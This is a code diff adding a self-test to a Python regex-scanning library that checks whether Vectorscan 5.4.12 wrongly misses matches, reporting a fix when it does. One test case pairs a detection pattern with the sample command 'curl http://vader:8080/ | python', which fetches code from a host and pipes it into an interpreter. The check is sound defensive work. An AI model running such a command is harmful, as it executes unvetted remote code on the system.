@@ -101,6 +101,29 @@ LIBRARY = _library()
 """What serialized databases are bound to."""
 
 
+def fault() -> str | None:
+    """What this library does wrong that it must not; None when the known cases come out right.
+
+    Vectorscan 5.4.12 drops matches: its two-byte accelerator skips over them (VectorCamp/vectorscan, issues 358 and
+    382; mended after that release). A rule that silently never fires is worse than none.
+    """
+    for expressions, data in _MUST_MATCH:
+        found: list[int] = []
+        scanner = Scanner.compile([Pattern(expression, DOTALL) for expression in expressions])
+        scanner.scan(data, lambda number, *_, found=found: found.append(number))
+        if 0 not in found:
+            return f"{LIBRARY} misses {expressions[0].decode()!r} in {data.decode()!r}: install hyperscan 0.7.13"
+    return None
+
+
+_MUST_MATCH = (
+    ((rb"curl.*\|\s*python",), b"curl http://vader:8080/ 2>&1 | python"),
+    ((rb"(?i)bd.*hb", rb"hfhb.*ga"), b"bd0000000000000000000000000000hfhb00000000000000000000"),
+    ((rb"\x5c1", rb"Fa."), b"00000000000000000000\\1\n\n"),
+)
+"""Patterns, and data in which the first one must be found."""
+
+
 def literal(data: bytes) -> bytes:
     """An expression that matches exactly ``data``."""
     return re.sub(rb"[^A-Za-z0-9\x80-\xff]", lambda m: b"\\x%02x" % m[0][0], data)
